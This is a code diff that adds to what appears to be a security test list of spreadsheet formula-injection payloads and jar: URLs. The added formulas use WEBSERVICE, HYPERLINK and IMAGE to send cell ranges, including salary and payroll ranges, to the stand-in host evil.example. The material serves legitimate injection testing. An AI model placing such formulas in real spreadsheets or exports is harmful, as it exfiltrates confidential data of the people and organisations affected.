@@ -232,6 +232,12 @@ FORMULAS += [f'={fn}({pre}"https://evil.example/?d="{op}{cell}{post}'
              for fn, (pre, op, post), cell in itertools.product(
                  ["WEBSERVICE", "IMPORTXML", "IMPORTDATA", "HYPERLINK", "IMAGE"],
                  [("", "&", ")"), ("CONCAT(", ",", "))")], ["A1", "$B$2", "AA10"])]
+# ... the cell wrapped in functions, of another sheet
+FORMULAS += [f'={fn}("https://evil.example/?d="&{ref})'
+             for fn, ref in itertools.product(
+                 ["WEBSERVICE", "HYPERLINK", "IMAGE"],
+                 ["ENCODEURL(Salaries!B2:B50)", "TEXTJOIN(\",\",TRUE,'Payroll Q1'!C2:C9)",
+                  "ENCODEURL(TRIM(A2))", "Sheet2!$A$1"])]
 # Java's archive URL over a file: or network URL: "!/" then the entry.
 JAR_URLS = [f"jar:{inner}!/{entry}" for inner, entry in itertools.product(
     ["file:///opt/app/app.jar", "file:/srv/lib/x.jar", "http://evil.example/x.jar",
